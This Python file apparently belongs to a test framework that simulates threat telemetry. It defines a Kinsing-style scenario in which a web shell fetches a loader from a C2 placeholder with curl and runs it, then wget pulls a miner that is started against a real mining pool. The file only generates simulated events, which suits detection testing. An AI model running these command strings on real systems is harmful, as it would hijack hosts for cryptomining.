"""The kinsing_web_compromise campaign (moved unchanged from the old single module; to be converted)."""

from __future__ import annotations

from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.environment import linux_host
from pytest_ctirealm.telemetry.scenarios.base import Stages, Timeline, incident_start, scenario
from pytest_ctirealm.telemetry.scenarios.linux.common import C2, WALLET, webshell


@scenario(
    "kinsing_web_compromise",
    "linux",
    ("download", "download_file", "miner_fetch", "miner_file", "miner_run"),
)
def kinsing_web_compromise(ctx: SimContext) -> Stages:
    """Kinsing-style: a vulnerable web app runs the loader, which fetches and starts a miner."""
    t = Timeline(ctx, "kinsing", linux_host("vm-web01"), incident_start(ctx, "kinsing"))
    worker = t.daemon("gunicorn")
    loader = "/tmp/.d.sh"
    stager = webshell(
        t,
        "download",
        worker,
        f"curl -fsSL http://{C2}/d.sh -o {loader} && chmod +x {loader} && {loader}",
    )
    curl = t.run("download", stager, "/usr/bin/curl", f"curl -fsSL http://{C2}/d.sh -o {loader}")
    t.file("download_file", curl, "FileCreated", loader, size=8412)
    t.run("download", stager, "/usr/bin/chmod", f"chmod +x {loader}")
    script = t.run("download", stager, loader, f"/bin/bash {loader}", cwd="/tmp")
    miner = "/tmp/kdevtmpfsi"
    wget = t.run(
        "miner_fetch", script, "/usr/bin/wget", f"wget -q http://{C2}/kdevtmpfsi -O {miner}"
    )
    t.file("miner_file", wget, "FileCreated", miner, size=2_643_304, after=(2, 6))
    t.run("miner_fetch", script, "/usr/bin/chmod", f"chmod 777 {miner}")
    t.run(
        "miner_run",
        script,
        miner,
        f"{miner} -o stratum+tcp://pool.supportxmr.com:3333 -u {WALLET} -p x --donate-level 1 -B",
        after=(5, 20),
        cwd="/tmp",
    )
    return t.stages
